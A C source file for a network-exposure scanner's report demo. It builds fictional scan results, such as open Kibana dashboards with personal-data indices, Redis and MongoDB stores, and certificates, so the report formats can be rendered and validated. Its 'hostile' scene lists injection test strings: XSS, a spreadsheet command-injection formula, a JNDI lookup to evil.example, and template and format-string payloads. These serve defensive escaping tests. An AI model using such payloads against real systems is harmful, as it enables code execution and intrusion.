/* Writes a report over made-up visits, judged by the real rules: for screenshots of the HTML page and
 * for the validators of each format.
 *
 *   report-demo FORMAT [story|empty|many|hostile] [CATALOGUE.mo] >file
 *
 * All addresses are of documentation ranges, all names end in .example. */
#include <stdio.h>
#include <stdlib.h>

#include "base/clock.h"
#include "base/say.h"
#include "keep/circumstances.h"
#include "report/report.h"

enum { ARENA_MAX = 256 * 1024 * 1024, OUT_MAX = 512 * 1024 * 1024, MANY = 10000, LONG = 1024 * 1024, KIBANAS = 14 };
static const int64_t DAY_MS = 86400000;

struct demo {
    const struct report *report;
    void *state;
    struct rulebook book;
    struct buf out;
    int64_t now_ms;
    struct report_summary sum;
    struct report_past past;
    struct arena long_life;
    bool remembers; /* findings have a life, owners and fleets */
    struct fleet_member members[KIBANAS];
    size_t member_count;
};

static int64_t date(int year, int month, int day)
{
    return time_from_civil(year, month, day, 4, 0, 0);
}

static bool fail(const char *why)
{
    fprintf(stderr, "report-demo: %s\n", why);
    return false;
}

/* ---- one endpoint ---- */

struct one {
    const char *address, *name;
    uint16_t port;
};

static void visit_start(struct visit *v, struct arena *a, const struct one *at)
{
    struct endpoint e = { .port = at->port, .name = at->name };
    arena_init(a, ARENA_MAX);
    if (!address_parse(span_str(at->address), &e.address))
        abort();
    visit_init(v, a, &e);
    v->answered = true;
}

static struct observation *observe(struct demo *d, struct visit *v, const char *product, enum kind kind,
                                   enum outcome outcome, const char *version)
{
    struct observation *o = visit_observe(v, product, kind);
    o->outcome = outcome;
    o->at_ms = d->now_ms;
    if (version)
        fact_text(o, "version", span_str(version), "info", span_str(version));
    return o;
}

static void certify(struct demo *d, struct visit *v, const char *subject, const char *names, const char *issuer,
                    int64_t from_ms, int64_t until_ms, char mark)
{
    struct observation *o = observe(d, v, "certificate", KIND_TLS, OUTCOME_IDENTIFIED, NULL);
    char hash[64];
    uint32_t digit = (uint32_t)(unsigned char)mark;
    for (size_t i = 0; i < sizeof(hash); i++) {
        digit = digit * 1103515245u + 12345u;
        hash[i] = "0123456789abcdef"[digit >> 24 & 15];
    }
    fact_text(o, "cert.subject", span_str(subject), "tls", SPAN_NONE);
    fact_text(o, "cert.names", span_str(names), "tls", SPAN_NONE);
    fact_text(o, "cert.issuer", span_str(issuer), "tls", SPAN_NONE);
    fact_text(o, "cert.key", SPAN("RSA 2048"), "tls", SPAN_NONE);
    fact_text(o, "cert.sha256", span_of(hash, sizeof(hash)), "tls", SPAN_NONE);
    fact_text(o, "cert.spki_sha256", span_of(hash, sizeof(hash)), "tls", SPAN_NONE);
    fact_time(o, "cert.not_before", from_ms, "tls", SPAN_NONE);
    fact_time(o, "cert.not_after", until_ms, "tls", SPAN_NONE);
    fact_bool(o, "cert.self_signed", strcmp(subject, issuer) == 0, "tls", SPAN_NONE);
    fact_text(o, "tls.version", SPAN("TLSv1.2"), "tls", SPAN_NONE);
    fact_text(o, "tls.cipher", SPAN("ECDHE-RSA-AES128-GCM-SHA256"), "tls", SPAN_NONE);
}

/* ---- what a store, a scope file and the rules of since-when would say ---- */

struct team {
    const char *owner, *tier, *contact;
};
static const struct team TEAMS[] = {
    { "Public Security Bureau, archive unit", "government", "archive@psb.example" },
    { "Shop platform", "finance", "shop-oncall@shop.example" },
    { "Customer relations", "", "crm@crm.example" },
    { NULL, NULL, NULL }, /* nobody named it: what the certificate and the network say has to do */
};

static const struct team *team_of(const struct address *at)
{
    return &TEAMS[at->bytes[0] == 203 ? at->bytes[3] < 53 ? 0 : 3 : at->bytes[3] < 20 ? 1 : at->bytes[3] < 35 ? 2 : 3];
}

static void open_at(struct demo *d, int64_t from_ms, int64_t to_ms, enum severity severity)
{
    const int64_t wide = (d->past.to_ms - d->past.from_ms) / (REPORT_PAST_POINTS - 1);
    for (size_t i = 0; i < REPORT_PAST_POINTS; i++) {
        int64_t at_ms = i + 1 == REPORT_PAST_POINTS ? d->past.to_ms : d->past.from_ms + wide * (int64_t)i;
        d->past.all[i] += from_ms <= at_ms && at_ms < to_ms;
        d->past.severe[i] += from_ms <= at_ms && at_ms < to_ms && severity >= SEVERITY_HIGH;
    }
}

/* The store knows most findings already: how long is drawn from the address. */
static void give_life(struct demo *d, struct finding *f)
{
    static const int MONTHS_OPEN[] = { 14, 12, 13, 14, 11, 12, 13, 5, 2, 0, 9 };
    const struct address *at = &f->endpoint.address;
    size_t turn = at->bytes[at->family == 4 ? 3 : 15];
    int months = MONTHS_OPEN[turn % (sizeof(MONTHS_OPEN) / sizeof(MONTHS_OPEN[0]))];
    int64_t opened = months ? d->now_ms - (int64_t)months * 30 * DAY_MS + (int64_t)(turn % 17) * DAY_MS : d->now_ms;
    f->life = (struct finding_life){ .known = true, .is_new = months == 0, .first_ms = opened, .opened_ms = opened };
    if (turn % 13 == 5 && months) {
        f->life.reopened = 1;
        f->life.first_ms = opened - 90 * DAY_MS;
    }
    open_at(d, opened, INT64_MAX, f->severity);
    if (turn == 40) {
        f->accepted_until_ms = d->now_ms + 92 * DAY_MS;
        f->accepted_why = SPAN("moves behind the proxy in September");
    }
}

/* What the scope file, a names file and an address database say is put on observations as facts. */
static void give_owner(struct visit *v)
{
    const struct team *t = team_of(&v->endpoint.address);
    for (size_t i = 0; i < v->observations.len; i++) {
        struct observation *o = &v->observations.at[i];
        if (t->owner) {
            fact_text(o, "tag.owner", span_str(t->owner), NULL, SPAN_NONE);
            fact_text(o, "tag.tier", span_str(t->tier), NULL, SPAN_NONE);
            fact_text(o, "tag.contact", span_str(t->contact), NULL, SPAN_NONE);
        }
        fact_text(o, "registry.organisation", SPAN("EXAMPLE-NET"), NULL, SPAN_NONE);
        fact_number(o, "registry.asn", 64496, NULL, SPAN_NONE);
        fact_text(o, "registry.country", SPAN("XX"), NULL, SPAN_NONE);
    }
}

static void join_fleet(struct demo *d, const struct visit *v, const struct findings *found)
{
    const struct observation *door = &v->observations.at[0];
    const struct observation *behind = door->outcome == OUTCOME_OPEN ? &v->observations.at[1] : door;
    struct fleet_member *m = &d->members[d->member_count++];
    *m = (struct fleet_member){ .endpoint = { .address = v->endpoint.address, .port = v->endpoint.port },
                                .product = "kibana", .version = SPAN("5.5.3"), .outcome = door->outcome,
                                .records = behind->records, .bytes = behind->bytes };
    for (size_t i = 0; i < found->list.len; i++)
        if (!m->worst[0] || found->list.at[i].severity > m->severity) {
            memcpy(m->worst, found->list.at[i].fingerprint, sizeof(m->worst));
            m->severity = found->list.at[i].severity;
        }
}

static void finish(struct demo *d, struct visit *v)
{
    struct findings found = { 0 };
    if (d->remembers)
        give_owner(v);
    if (!judge_visit(d->book.rules, v, d->now_ms, v->arena, &found) ||
        !circumstances_add(&d->book, v, d->now_ms, v->arena, &found))
        abort();
    for (size_t i = 0; i < found.list.len; i++) {
        d->sum.findings[found.list.at[i].severity]++;
        if (d->remembers)
            give_life(d, &found.list.at[i]);
    }
    if (!circumstances_date(&d->book, v, v->arena, &found))
        abort();
    if (d->remembers && v->endpoint.address.bytes[0] == 203 && d->member_count < KIBANAS)
        join_fleet(d, v, &found);
    d->sum.done += v->end == END_DONE;
    d->sum.skipped += v->end == END_SKIPPED;
    d->sum.failed += v->end == END_FAILED;
    d->sum.answered += v->answered;
    report_tell_visit(d->report, d->state, v, found.list.at, found.list.len, &d->out);
    arena_release(v->arena);
}

/* ---- the story: dashboards set up as copies of each other, and a few other doors ---- */

static void kibana(struct demo *d, int i)
{
    static const int64_t GIGABYTES[] = { 92300, 60100, 23100, 8800, 4100, 3900, 2200, 1700, 960, 610, 420, 310, 140, 35 };
    static const int64_t MILLIONS[] = { 1210, 3480, 970, 415, 388, 120, 96, 77, 54, 31, 22, 9, 4, 1 };
    static const char *const INDICES[] = { "person_basic_info", "address_merge_tracks", "case_reports_2021",
                                           "delivery_orders", "phone_owner_index", "contact_for_data" };
    static const int64_t SHARES[] = { 46, 27, 14, 8, 4, 1 };
    struct arena a;
    struct visit v;
    char address[32];
    snprintf(address, sizeof(address), "203.0.113.%d", 20 + 3 * i);
    visit_start(&v, &a, &(struct one){ .address = address, .port = 5601 });
    /* Two of them have been dealt with meanwhile. */
    enum outcome door = i == 12 ? OUTCOME_PARTIAL : i == 13 ? OUTCOME_LOCKED : OUTCOME_OPEN;
    struct observation *o = observe(d, &v, "kibana", KIND_DASHBOARD, door, "5.5.3");
    o->tls = true;
    fact_time(o, "started", date(2021, 4, 9), "kibana.status", SPAN("uptime"));
    if (door == OUTCOME_OPEN) {
        o = observe(d, &v, "elasticsearch", KIND_STORE, OUTCOME_OPEN, "5.5.3");
        o->tls = true;
        o->via = "kibana";
        fact_text(o, "cluster", SPAN("es-cn-prod"), "kibana.cat", SPAN("epoch cluster es-cn-prod green"));
        for (size_t k = 0; k < sizeof(INDICES) / sizeof(INDICES[0]) - (i % 4 ? 1 : 0); k++)
            observation_collect(o, span_str(INDICES[k]), MILLIONS[i] * 10000 * SHARES[k],
                                GIGABYTES[i] * 10000000 * SHARES[k], date(2020, 12, 24));
        fact_number(o, "personal.count", 6, NULL, SPAN_NONE);
        fact_text(o, "personal.identity", SPAN("resident ID number, name"), NULL, SPAN_NONE);
        fact_text(o, "personal.contact", SPAN("mobile number"), NULL, SPAN_NONE);
        fact_text(o, "personal.attribute", i % 3 ? SPAN("date of birth") : SPAN("date of birth, sex"), NULL, SPAN_NONE);
    }
    certify(d, &v, "CN=es-cn-4591jumei000u.kibana.elasticsearch.example", "*.kibana.elasticsearch.example",
            "C=BE, O=Example Trust, CN=Example Organization Validation CA", date(2017, 9, 1), date(2018, 9, 2), 'a');
    finish(d, &v);
}

struct door {
    const char *address, *name, *product, *version, *subject;
    int64_t records, bytes;
    int expires_in_days;
    uint16_t port;
    enum kind kind;
    enum outcome outcome;
};

static const struct door DOORS[] = {
    { "198.51.100.12", "cache.shop.example", "redis", "7.0.15", NULL, 1204331, 845000000, 0, 6379, KIND_STORE, OUTCOME_OPEN },
    { "198.51.100.14", NULL, "redis", "6.2.6", NULL, 88120, 41000000, 0, 6379, KIND_STORE, OUTCOME_OPEN },
    { "198.51.100.31", "db3.crm.example", "mongodb", "4.4.18", NULL, 3911204, 5120000000, 0, 27017, KIND_STORE, OUTCOME_OPEN },
    { "198.51.100.40", "metrics.example", "prometheus", "2.42.0", NULL, -1, -1, 0, 9090, KIND_MONITOR, OUTCOME_OPEN },
    { "198.51.100.41", "grafana.example", "grafana", "9.3.2", "CN=grafana.example", -1, -1, 19, 3000, KIND_DASHBOARD, OUTCOME_OPEN },
    { "198.51.100.52", "pg1.example", "postgresql", "15.6", "CN=pg1.example", -1, -1, 61, 5432, KIND_STORE, OUTCOME_LOCKED },
    { "198.51.100.53", "pg2.example", "postgresql", "15.6", "CN=pg2.example", -1, -1, 61, 5432, KIND_STORE, OUTCOME_LOCKED },
    { "198.51.100.60", "ldap.example", "ldap", NULL, "CN=ldap.example", -1, -1, 118, 636, KIND_DIRECTORY, OUTCOME_LOCKED },
    { "198.51.100.61", "queue.example", "rabbitmq", "3.12.1", "CN=queue.example", 412, -1, 204, 15671, KIND_DASHBOARD, OUTCOME_LOCKED },
    { "2001:db8:40::5", "couch.example", "couchdb", "3.2.2", "CN=couch.example", 66101, 912000000, 8, 6984, KIND_STORE, OUTCOME_PARTIAL },
    { "198.51.100.77", "www.example", "web", NULL, "CN=www.example", -1, -1, 83, 443, KIND_WEB, OUTCOME_IDENTIFIED },
    { "198.51.100.78", "shop.example", "web", NULL, "CN=shop.example", -1, -1, 83, 443, KIND_WEB, OUTCOME_IDENTIFIED },
    { "198.51.100.79", "mail.example", "web", NULL, "CN=mail.example", -1, -1, 340, 443, KIND_WEB, OUTCOME_IDENTIFIED },
    { "198.51.100.90", "zk.example", "zookeeper", "3.8.0", NULL, 1420, 310000, 0, 2181, KIND_COORDINATION, OUTCOME_OPEN },
};

static void door(struct demo *d, const struct door *x)
{
    struct arena a;
    struct visit v;
    visit_start(&v, &a, &(struct one){ .address = x->address, .name = x->name, .port = x->port });
    struct observation *o = observe(d, &v, x->product, x->kind, x->outcome, x->version);
    o->tls = x->subject != NULL;
    if (x->records >= 0) {
        observation_collect(o, SPAN("customers"), x->records / 3 * 2, x->bytes >= 0 ? x->bytes / 3 * 2 : -1, -1);
        observation_collect(o, SPAN("sessions"), x->records - x->records / 3 * 2,
                            x->bytes >= 0 ? x->bytes - x->bytes / 3 * 2 : -1, -1);
    }
    if (x->outcome == OUTCOME_OPEN && x->kind == KIND_STORE)
        fact_bool(o, "writable", true, "info", SPAN("role:master"));
    if (strcmp(x->product, "mongodb") == 0) {
        fact_number(o, "sample.records", 500, NULL, SPAN_NONE);
        fact_text(o, "sample.personal", SPAN("e-mail address, mobile number (China)"), NULL, SPAN_NONE);
        fact_number(o, "sample.personal.records", 2599000, NULL, SPAN_NONE);
        fact_number(o, "sample.personal.records.low", 2431000, NULL, SPAN_NONE);
        fact_number(o, "sample.personal.records.high", 2607469, NULL, SPAN_NONE);
        fact_number(o, "sample.personal.persons.low", 1455000, NULL, SPAN_NONE);
        fact_number(o, "sample.personal.persons.high", 2607469, NULL, SPAN_NONE);
    }
    if (x->subject) {
        int64_t until = d->now_ms + (int64_t)x->expires_in_days * 86400000;
        certify(d, &v, x->subject, x->name, "C=XX, O=Example Trust, CN=Example CA R3", until - 395 * 86400000ll, until,
                (char)(x->port % 89 + v.endpoint.address.bytes[3]));
    }
    finish(d, &v);
}

static void unheard(struct demo *d, const char *address, enum end end, const char *why)
{
    struct arena a;
    struct visit v;
    visit_start(&v, &a, &(struct one){ .address = address, .port = 9200 });
    v.answered = false;
    v.end = end;
    v.why = why;
    finish(d, &v);
}

/* A service that nobody knows, and what it said. */
static void strange(struct demo *d, struct visit *v, struct span greeting, const char *to)
{
    struct observation *o = observe(d, v, "unknown", KIND_UNKNOWN, OUTCOME_IDENTIFIED, NULL);
    fact_text(o, "greeting", greeting, NULL, SPAN_NONE);
    fact_text(o, "greeting.to", span_str(to), NULL, SPAN_NONE);
    fact_text(o, "reacts.line", SPAN("bytes"), "ladder.ping", SPAN_NONE);
    fact_text(o, "unasked", SPAN("ldap,mongodb"), NULL, SPAN_NONE);
    v->end = END_DONE;
}

static void story(struct demo *d)
{
    for (int i = 0; i < KIBANAS; i++)
        kibana(d, i);
    for (size_t i = 0; i < sizeof(DOORS) / sizeof(DOORS[0]); i++)
        door(d, &DOORS[i]);
    for (int i = 0; i < 3; i++)
        unheard(d, "198.51.100.200", END_FAILED, "no route to the host");
    unheard(d, "198.51.100.201", END_SKIPPED, "excluded by the scope file");
    struct arena a;
    struct visit v;
    visit_start(&v, &a, &(struct one){ .address = "198.51.100.79", .port = 7777 });
    strange(d, &v, SPAN("WELCOME to jobserver 3\r\n"), "connect");
    finish(d, &v);
}

static void tell_fleet(struct demo *d)
{
    struct fleet_reason reasons[] = {
        { "certificate key", SPAN("c36658d0dab57ee0c36658d0dab57ee0c36658d0dab57ee0c36658d0dab57ee0"), 14 },
        { "product and version", SPAN("kibana 5.5.3"), 14 },
        { "ports", SPAN("5601"), 14 },
        { "index names", SPAN("person_basic_info, address_merge_tracks"), 13 },
    };
    struct fleet f = { .fingerprint = "7be1f0c2a9d84e5f60718293a4b5c6d7", .score = 0.97, .severity = SEVERITY_CRITICAL,
                       .product = "kibana", .title = SPAN("14 set up alike; 12 open"), .member_count = d->member_count, .records = 0, .bytes = 0 };
    f.reasons.at = reasons;
    f.reasons.len = sizeof(reasons) / sizeof(reasons[0]);
    f.members.at = d->members;
    f.members.len = d->member_count;
    for (size_t i = 0; i < d->member_count; i++) {
        f.open += d->members[i].outcome == OUTCOME_OPEN;
        f.partial += d->members[i].outcome == OUTCOME_PARTIAL;
        f.locked += d->members[i].outcome == OUTCOME_LOCKED;
        f.records += d->members[i].records > 0 ? d->members[i].records : 0;
        f.bytes += d->members[i].bytes > 0 ? d->members[i].bytes : 0;
    }
    if (d->report->fleets)
        d->report->fleets(d->state, &f, 1, &d->out);
}

/* ---- 10,000 stores of the same kind ---- */

static void many(struct demo *d)
{
    for (int i = 0; i < MANY; i++) {
        char address[32];
        struct door x = DOORS[i % 3];
        snprintf(address, sizeof(address), "198.18.%d.%d", i / 256, i % 256);
        x.address = address;
        x.name = NULL;
        x.records = (int64_t)i * i % 7919 * 131;
        door(d, &x);
    }
}

/* ---- the worst that a peer can call things ---- */

static const char *const NASTY[] = {
    "</script><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<!--", "]]>", "&lt;b&gt;", "' onmouseover='x",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "a\r\nBEGIN:VEVENT\r\nSUMMARY:x", "a;b,c\\d",
    "\xe2\x80\xae" "evil", "\xe2\x81\xa6x\xe2\x81\xa9", "\xef\xbb\xbfx", "\xff\xfe\xc0\x80", "\xed\xa0\x80", "\x1b[31mred\x07", "\x9b" "31m",
    "| a | b |\n|---|---|", "[x](javascript:alert(1))", "```\n# x", "@everyone http://evil.example www.evil.example",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n%d", "\xf3\xa0\x80\x81tag", "\xe2\x80\xa8line\xe2\x80\xa9paragraph",
};

static void hostile(struct demo *d)
{
    char *endless = malloc(LONG);
    if (!endless)
        abort();
    memset(endless, '<', LONG);
    for (size_t i = 0; i <= sizeof(NASTY) / sizeof(NASTY[0]); i++) {
        struct arena a;
        struct visit v;
        struct span bad = i < sizeof(NASTY) / sizeof(NASTY[0]) ? span_str(NASTY[i]) : span_of(endless, LONG);
        char *name = strndup((const char *)bad.at, bad.len);
        visit_start(&v, &a, &(struct one){ .address = "198.51.100.66", .name = name, .port = (uint16_t)(7000 + i) });
        struct observation *o = observe(d, &v, "redis", KIND_STORE, OUTCOME_OPEN, NULL);
        fact_text(o, "version", bad, "redis.info", bad);
        fact_text(o, "os", bad, "redis.info", bad);
        fact_text(o, "personal.identity", bad, NULL, SPAN_NONE);
        fact_text(o, "sample.personal", bad, NULL, SPAN_NONE);
        fact_number(o, "sample.personal.persons.low", INT64_MAX, NULL, SPAN_NONE);
        observation_collect(o, bad, INT64_MAX, INT64_MAX, INT64_MAX);
        observation_collect(o, SPAN(""), 0, 0, 0);
        certify(d, &v, name, name, name, date(2020, 1, 1), i % 2 ? INT64_MAX : INT64_MIN, (char)('a' + i % 6));
        v.end = i % 3 == 2 ? END_FAILED : END_DONE;
        v.why = name;
        finish(d, &v);
        visit_start(&v, &a, &(struct one){ .address = "198.51.100.67", .name = name, .port = (uint16_t)(7000 + i) });
        strange(d, &v, bad, "connect");
        finish(d, &v);
        free(name);
    }
    free(endless);
}

/* ---- the past ---- */

/* Some things that were open are closed. */
static void past(struct demo *d)
{
    for (int i = 0; i < 24; i++) {
        int64_t opened = d->now_ms - (int64_t)(420 - 13 * i) * DAY_MS;
        open_at(d, opened, opened + (int64_t)(40 + i * 7 % 90) * DAY_MS, i % 3 ? SEVERITY_HIGH : SEVERITY_MEDIUM);
    }
    if (d->report->past)
        d->report->past(d->state, &d->past, &d->out);
}

/* $COLUMNS, or 100. */
static unsigned columns(void)
{
    const char *set = getenv("COLUMNS");
    uint64_t n;
    return set && span_u64(span_str(set), 1000, &n) ? (unsigned)n : 100;
}

static bool play(struct demo *d, const char *scene)
{
    struct report_run run = { .ajar_version = "0.1.0", .started_ms = d->now_ms, .endpoints = 65536, .seed = 7, .columns = columns() };
    d->remembers = strcmp(scene, "story") == 0;
    d->past = (struct report_past){ .from_ms = d->now_ms - 426 * DAY_MS, .to_ms = d->now_ms };
    d->report->begin(d->state, &run, &d->out);
    if (d->remembers)
        story(d);
    else if (strcmp(scene, "many") == 0)
        many(d);
    else if (strcmp(scene, "hostile") == 0)
        hostile(d);
    else if (strcmp(scene, "empty") != 0)
        return fail("no such scene");
    d->sum.done += 65536 - d->sum.done - d->sum.failed - d->sum.skipped;
    d->sum.took_ms = 94300;
    d->sum.rate = 695.0;
    d->sum.loss = 0.0021;
    if (d->remembers) {
        tell_fleet(d);
        past(d);
    }
    d->report->end(d->state, &d->sum, &d->out);
    return buf_ok(&d->out) || fail("the report does not fit");
}

int main(int argc, char **argv)
{
    struct demo d = { .now_ms = date(2022, 7, 1) };
    struct arena a;
    struct error e = { "" };
    arena_init(&a, ARENA_MAX);
    arena_init(&d.long_life, ARENA_MAX);
    buf_init(&d.out, OUT_MAX);
    if (argc > 3 && !say_load(argv[3]))
        return fail("the catalogue cannot be read"), 1;
    d.report = argc > 1 ? report_by_name(argv[1]) : NULL;
    facts_init(&d.book.facts, NULL);
    d.book.rules = rules_load(&a, "rules", &d.book.facts, &e);
    bool ok = d.book.rules || fail(e.text);
    ok = ok && (d.report || fail("usage: report-demo FORMAT [story|empty|many|hostile]"));
    d.state = ok ? calloc(1, d.report->state_size + 1) : NULL;
    ok = ok && d.state && play(&d, argc > 2 ? argv[2] : "story") &&
         (d.out.len == 0 || fwrite(d.out.at, 1, d.out.len, stdout) == d.out.len) && fflush(stdout) == 0;
    free(d.state);
    buf_release(&d.out);
    arena_release(&d.long_life);
    arena_release(&a);
    return ok ? 0 : 1;
}
